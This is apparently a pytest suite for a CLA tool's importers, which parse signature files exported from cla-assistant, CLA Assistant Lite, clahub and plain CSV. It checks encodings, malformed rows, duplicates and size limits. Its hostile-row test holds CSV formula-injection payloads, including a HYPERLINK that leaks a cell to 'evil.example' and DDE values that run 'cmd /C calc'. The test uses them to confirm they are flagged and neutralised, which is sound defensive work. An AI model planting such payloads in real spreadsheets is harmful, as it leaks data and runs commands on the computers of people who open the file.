"""Reading other CLA tools' signature files (pure: bytes in, records and problems out).

Each format is checked against a small real-shaped fixture in tests/fixtures/imports/ (made-up
people; the shapes follow the source files named in docs/importing.md), and each hostile case
against a fixture in tests/fixtures/imports/hostile/ or bytes built here (huge files).
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import hashlib
import json
from pathlib import Path

import pytest

from undersign.agreements.export import neutralize_cell
from undersign.agreements.importers import (
    MAX_IMPORT_BYTES,
    SOURCES,
    ImportBatch,
    ImportProblem,
    ImportRefused,
    parse,
)

FIXTURES = Path(__file__).parents[2] / "fixtures" / "imports"
NOW = dt.datetime(2026, 11, 30, 12, 0, tzinfo=dt.UTC)


def read(source: str, name: str) -> ImportBatch:
    return parse(source, (FIXTURES / name).read_bytes(), now=NOW)


def utc(
    year: int,
    month: int,
    day: int,
    hour: int = 0,
    minute: int = 0,
    second: int = 0,
    microsecond: int = 0,
) -> dt.datetime:
    return dt.datetime(year, month, day, hour, minute, second, microsecond, tzinfo=dt.UTC)


def problems(batch: ImportBatch) -> list[tuple[int, str]]:
    return [(problem.line, problem.kind) for problem in batch.problems]


# --- each format against its fixture --------------------------------------------------------


def test_cla_assistant_csv_export() -> None:
    data = (FIXTURES / "cla-assistant.csv").read_bytes()
    batch = parse("cla-assistant", data, now=NOW)

    assert batch.format == "cla-assistant-csv"
    assert batch.sha256 == hashlib.sha256(data).hexdigest()
    assert batch.problems == ()
    assert [(r.line, r.github_id, r.login) for r in batch.records] == [
        (2, None, "ada-example"),
        (3, None, "grace-h"),
        (4, None, "linus-t-1969"),
    ]
    assert batch.records[0].signed_at == dt.datetime(2019, 5, 14, 9, 12, 33, 123000, dt.UTC)
    # The export has no ids, names or emails: logins are resolved through GitHub later.
    assert all(r.name is None and r.email is None for r in batch.records)
    last = batch.records[2]
    assert last.source == "cla-assistant"
    assert last.original["Signed for Organisation"] == "true"
    assert last.original["Company"] == "Kernel; Co."  # a custom field, quoted around the ";"


def test_cla_assistant_mongoexport() -> None:
    batch = read("cla-assistant", "cla-assistant.jsonl")

    assert batch.format == "cla-assistant-mongoexport"
    assert [(r.line, r.github_id, r.login, r.signed_at) for r in batch.records] == [
        (1, 583231, "ada-example", utc(2019, 5, 14, 9, 12, 33, 123000)),
        # Canonical extended JSON: {"$date": {"$numberLong": "<ms>"}}.
        (2, 1024025, "grace-h", utc(2020, 2, 3, 17, 45)),
        # Line 3 is blank; line 4 predates the userId field: a login only.
        (4, None, "old-timer", utc(2017, 11, 29, 8)),
    ]
    # A revoked signature is reported, never imported as signed.
    assert problems(batch) == [(5, "revoked")]
    assert "revoked on 2022-06-01" in batch.problems[0].message
    assert batch.importable
    first = batch.records[0].original
    assert first["_id"] == {"$oid": "5cdaa8a1e3b0c1001f6b0a11"}
    assert json.loads(first["custom_fields"]) == {"name": "Ada Example", "email": "ada@example.org"}
    assert first["gist_version"] == "9e1c7d3a5b2f4e6c8a0b1d3f5e7a9c2b4d6f8e0a"


def test_cla_assistant_lite_signatures_file() -> None:
    batch = read("cla-assistant-lite", "cla-assistant-lite.json")

    assert batch.format == "cla-assistant-lite-json"
    assert batch.problems == ()
    # Each entry's line is where its object starts in the indented file.
    assert [(r.line, r.github_id, r.login) for r in batch.records] == [
        (3, 583231, "ada-example"),
        (11, 1024025, "grace-h"),
        (19, 87654321, "dependabot-fan"),
    ]
    assert batch.records[1].signed_at == utc(2022, 7, 8, 16, 5)
    assert batch.records[1].original == {
        "name": "grace-h",
        "id": 1024025,
        "comment_id": 1234599999,
        "created_at": "2022-07-08T16:05:00Z",
        "repoId": 298765432,
        "pullRequestNo": 57,
    }


def test_clahub_rails_export() -> None:
    batch = read("clahub", "clahub-rails.csv")

    assert batch.format == "clahub-rails-csv"
    assert batch.problems == ()
    ada, grace = batch.records
    assert (ada.line, ada.login, ada.name, ada.email) == (2, "ada-example", "Ada Example", None)
    assert ada.signed_at == utc(2013, 2, 18, 3, 38, 34)
    # Ada's mailing address spans two lines, so Grace starts on line 4.
    assert ada.original["Mailing address"] == "1 Analytical Way\nLondon"
    assert ada.original['Type "I AGREE"'] == "I AGREE"
    assert ada.formula_like == ("Phone or Skype",)  # "+44 ...": kept verbatim, flagged
    assert grace.line == 4
    assert grace.name is None  # an empty GitHub profile name
    assert grace.signed_at == utc(2014, 11, 6, 20, 40, 40)  # 12:40:40 -0800


def test_clahub_export() -> None:
    batch = read("clahub", "clahub.csv")

    assert batch.format == "clahub-csv"
    assert [(r.line, r.login, r.name, r.email) for r in batch.records] == [
        (2, "ada-example", "Ada Example", "ada@example.org"),
        (3, "grace-h", "Grace Hopper-Example", None),
    ]
    assert batch.records[1].signed_at == utc(2026, 2, 12, 14, 40, 42, 123000)
    assert batch.records[1].original["Source"] == "manual"
    assert problems(batch) == [(4, "revoked")]


def test_plain_csv() -> None:
    batch = read("csv", "plain.csv")

    assert batch.format == "csv"
    assert batch.problems == ()
    assert [(r.github_id, r.login, r.name, r.email, r.signed_at) for r in batch.records] == [
        (583231, "ada-example", "Ada Example", "ada@example.org", utc(2019, 5, 14, 9, 12, 33)),
        (None, "grace-h", "Grace Hopper-Example", None, utc(2020, 2, 3, 17, 45)),
        (87654321, None, None, None, None),
    ]


def test_line_endings_between_rows_do_not_change_the_result() -> None:
    crlf = (FIXTURES / "clahub.csv").read_bytes()  # Papa.unparse writes CRLF
    assert b"\r\n" in crlf
    lf = parse("clahub", crlf.replace(b"\r\n", b"\n"), now=NOW)
    assert lf.records == read("clahub", "clahub.csv").records
    # Inside a quoted cell the line ending is part of the value and is kept as written.
    rails = (FIXTURES / "clahub-rails.csv").read_bytes().replace(b"\n", b"\r\n")
    ada = parse("clahub", rails, now=NOW).records[0]
    assert ada.original["Mailing address"] == "1 Analytical Way\r\nLondon"


# --- hostile rows ---------------------------------------------------------------------------


def test_formula_like_cells_are_kept_verbatim_and_flagged() -> None:
    batch = read("csv", "hostile/formula.csv")

    assert batch.importable
    names = {r.login: r.name for r in batch.records}
    assert names["formula-eq"] == '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
    assert names["formula-plus"] == "+1+2"
    assert names["formula-minus"] == "-2+3+cmd|' /C calc'!A0"
    assert names["formula-at"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    flagged = {r.login for r in batch.records if r.formula_like == ("name",)}
    assert flagged == {"formula-eq", "formula-plus", "formula-minus", "formula-at", "formula-tab"}
    tab = next(r for r in batch.records if r.login == "formula-tab")
    assert tab.original["name"] == "\t=1+1"  # the original keeps the exact cell
    # The exporter is where such text is made safe, for imported names as for signed ones.
    for record in batch.records:
        if record.formula_like:
            assert neutralize_cell(record.name).startswith("'")


def test_malformed_rows_are_reported_by_line_and_never_guessed() -> None:
    batch = read("csv", "hostile/malformed.csv")

    assert not batch.importable
    assert [(r.line, r.login) for r in batch.records] == [(16, "fine-person")]
    messages = {problem.line: problem.message for problem in batch.problems}
    assert all(problem.kind == "malformed" for problem in batch.problems)
    assert messages == {
        2: "GitHub id '12ab' is not a whole number",
        3: "GitHub id '1.5e3' is not a whole number",
        4: "GitHub id '-7' is not a whole number",
        5: "GitHub id 99999999999999999999 is out of range",
        6: "neither a GitHub id nor a login",
        7: "neither a GitHub id nor a login",
        8: "date '14/05/2019' is not an ISO 8601 date and time",
        9: "date '2019-05-14T09:12:33' has no time zone (add Z or an offset)",
        10: "signed in the future (2999-01-01T00:00:00+00:00)",
        11: "'-leading-hyphen' is not a GitHub login",
        12: "6 cells where the header has 5",
        13: "name 'Eve\\u202elive': Text direction control characters are not allowed.",
        14: "email 'not-an-email': Enter a valid email address.",
        17: "'=cmd' is not a GitHub login",
    }
    assert batch.malformed == batch.problems


def test_duplicates_keep_the_first_line() -> None:
    batch = read("csv", "hostile/duplicates.csv")

    assert batch.importable  # duplicates are reported, not fatal
    assert [(r.line, r.github_id, r.login) for r in batch.records] == [
        (2, 3001, "dup-one"),
        (4, None, "Dup-Two"),
        # An id is the person: a login-only row is matched to it only after resolution.
        (6, 3002, "dup-two"),
    ]
    assert batch.problems == (
        ImportProblem(
            3,
            "duplicate",
            "GitHub id 3001 (dup-one-renamed) already appears on line 2; not imported",
        ),
        ImportProblem(5, "duplicate", "login dup-two already appears on line 4; not imported"),
    )


def test_repeated_column_names_keep_every_cell_and_use_the_first() -> None:
    batch = parse("csv", b"login,name,Name,name\nalice,First,Second,Third\n", now=NOW)
    record = batch.records[0]
    assert record.name == "First"
    assert record.original == {
        "login": "alice",
        "name": "First",
        "Name": "Second",
        "name (2)": "Third",
    }


def test_signing_times_just_ahead_of_the_clock_are_accepted() -> None:
    def signed_at(offset: dt.timedelta) -> ImportBatch:
        moment = (NOW + offset).isoformat()
        return parse("csv", f"login,signed_at\nalice,{moment}\n".encode(), now=NOW)

    assert signed_at(dt.timedelta(minutes=4)).importable
    assert problems(signed_at(dt.timedelta(minutes=6))) == [(2, "malformed")]


def test_lite_hostile_entries() -> None:
    batch = read("cla-assistant-lite", "hostile/lite-hostile.json")

    assert [(r.line, r.github_id) for r in batch.records] == [(3, 5001), (12, 5008)]
    assert batch.records[1].signed_at is None  # no created_at: unknown, not "now"
    assert {problem.line: problem.message for problem in batch.problems} == {
        4: "id '5002' is a string; Lite writes ids as numbers",
        5: "GitHub id 5003.0 is not a whole number",
        6: "neither a GitHub id nor a login",
        7: "an entry that is not a JSON object",
        8: "date 'last tuesday' is not an ISO 8601 date and time",
        9: "GitHub id 5001 (ok-person-again) already appears on line 3; not imported",
        10: "'=HYPERLINK(1)' is not a GitHub login",
        11: "True is not a GitHub login",
    }


def test_mongoexport_hostile_lines() -> None:
    batch = read("cla-assistant", "hostile/mongoexport-hostile.jsonl")

    # Line 10 holds a raw U+2028 inside a string: lines are still counted on "\n" only.
    assert [(r.line, r.github_id) for r in batch.records] == [
        (1, 6001),
        (9, 6007),
        (10, 6008),
        (11, 6009),
    ]
    assert batch.records[1].signed_at == utc(1969, 12, 31)
    assert {problem.line: problem.message for problem in batch.problems} == {
        2: "not JSON: Expecting property name enclosed in double quotes at column 34",
        3: "not JSON: NaN is not a JSON value",
        4: "not a JSON object",
        5: "date 'yesterday' is not an ISO 8601 date and time",
        6: "GitHub id '60x4' is not a whole number",
        7: "GitHub id 6001 (ok-person-again) already appears on line 1; not imported",
        8: "not JSON: the key 'userId' appears twice",
    }


# --- whole files refused --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "data", "message"),
    [
        ("dropbox", b"login\nalice\n", "unknown source 'dropbox'"),
        ("csv", b"", "the file is empty"),
        ("csv", b"\n\r\n  \n", "the file is empty"),
        ("csv", b"\xef\xbb\xbf", "the file is empty"),
        ("clahub", (FIXTURES / "cla-assistant.csv").read_bytes(), "not a clahub CSV export"),
        ("cla-assistant", (FIXTURES / "clahub.csv").read_bytes(), "not a cla-assistant CSV"),
        ("cla-assistant", b'[{"user": "alice"}]\n', "mongoexport without --jsonArray"),
        ("cla-assistant-lite", b'{"signedContributors": {}}', '"signedContributors" is not'),
        ("cla-assistant-lite", b'{"signed": []}', 'no "signedContributors" list'),
        ("cla-assistant-lite", b'[{"name": "alice", "id": 1}]', "expected a JSON object"),
        ("cla-assistant-lite", b'{"signedContributors": []} []', "text after the JSON object"),
        ("cla-assistant-lite", b'{"signedContributors": [{"id": 1}', "line 1"),
        ("cla-assistant-lite", b'{"signedContributors": [' + b"[" * 100_000, "nested too deeply"),
        ("csv", b'login,name\nalice,"Alice\nbob,Bob\n', "line 2: unreadable CSV"),
        ("csv", b"login,name\n" + b"a" * 200_000 + b",x\n", "line 2: unreadable CSV"),
    ],
)
def test_unreadable_files_are_refused_whole(source: str, data: bytes, message: str) -> None:
    with pytest.raises(ImportRefused) as refused:
        parse(source, data, now=NOW)
    assert message in str(refused.value)


def test_a_missing_required_column_names_what_is_there() -> None:
    with pytest.raises(ImportRefused) as refused:
        read("csv", "hostile/missing-columns.csv")
    assert str(refused.value) == (
        "line 1: not an undersign import CSV: the header needs 'github_id' or 'login'; "
        "it has 'user', 'full name', 'date'"
    )


def test_a_duplicated_key_refuses_a_lite_file_at_its_line() -> None:
    with pytest.raises(ImportRefused, match="line 4: the key 'id' appears twice"):
        read("cla-assistant-lite", "hostile/lite-duplicate-key.json")


# --- encodings ------------------------------------------------------------------------------


def test_latin1_is_refused_not_guessed() -> None:
    with pytest.raises(ImportRefused, match=r"^line 2: byte 0xe9 is not UTF-8"):
        read("csv", "hostile/latin1.csv")


def test_utf8_with_a_byte_order_mark() -> None:
    batch = read("csv", "hostile/excel-utf8-bom.csv")
    assert [(r.github_id, r.name) for r in batch.records] == [(4001, "José Müller")]
    assert list(batch.records[0].original) == ["github_id", "login", "name", "email", "signed_at"]


def test_utf16_tab_separated_as_excel_saves_unicode_text() -> None:
    batch = read("csv", "hostile/excel-unicode-text.txt")
    assert [(r.line, r.login, r.name) for r in batch.records] == [
        (2, "jose-m", "José Müller"),
        (3, "mei-l", "李美"),
    ]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ((FIXTURES / "hostile/utf16-without-bom.csv").read_bytes(), "line 1: NUL character"),
        ("\ufefflogin\nalice\n".encode("utf-32"), "the file is UTF-32"),
        (b"\xff\xfel\x00o\x00\x00\xd8", "the file starts as UTF-16 but is not"),
    ],
)
def test_other_encodings_are_refused(data: bytes, message: str) -> None:
    with pytest.raises(ImportRefused, match=message):
        parse("csv", data, now=NOW)


# --- size -----------------------------------------------------------------------------------


def test_a_file_over_the_limit_is_refused_before_it_is_read() -> None:
    huge = b"login\n" + b"x" * MAX_IMPORT_BYTES
    with pytest.raises(ImportRefused, match="split it"):
        parse("csv", huge, now=NOW)
    small = b"login\nalice\n"
    assert parse("csv", small, now=NOW, max_bytes=len(small)).records
    with pytest.raises(ImportRefused, match=f"the limit is {len(small) - 1:,} bytes"):
        parse("csv", small, now=NOW, max_bytes=len(small) - 1)


def test_a_large_file_is_read_whole_with_its_lines() -> None:
    count = 10_000
    entries = [
        {"name": f"user-{n}", "id": n, "created_at": "2021-03-04T10:20:30Z"}
        for n in range(1, count + 1)
    ]
    data = json.dumps({"signedContributors": entries}, indent=2).encode()
    batch = parse("cla-assistant-lite", data, now=NOW)
    assert len(batch.records) == count
    assert batch.problems == ()
    last = batch.records[-1]
    assert data.decode().split("\n")[last.line - 1].strip() == "{"
    assert data.decode().split("\n")[last.line].strip() == f'"name": "user-{count}",'


# --- the API --------------------------------------------------------------------------------


def test_records_are_frozen_and_hashable() -> None:
    record = read("csv", "plain.csv").records[0]
    for value, attribute in ((record, "login"), (ImportProblem(1, "duplicate", ""), "kind")):
        with pytest.raises(dataclasses.FrozenInstanceError):
            setattr(value, attribute, "mallory")
    # Hashable although it holds the original row as a dict (excluded from the hash).
    assert len({record, dataclasses.replace(record)}) == 1


def test_every_source_is_parsed_by_name() -> None:
    assert SOURCES == ("cla-assistant", "cla-assistant-lite", "clahub", "csv")


def test_now_must_be_aware() -> None:
    with pytest.raises(ValueError, match="timezone-aware"):
        parse("csv", b"login\nalice\n", now=dt.datetime(2026, 1, 1))
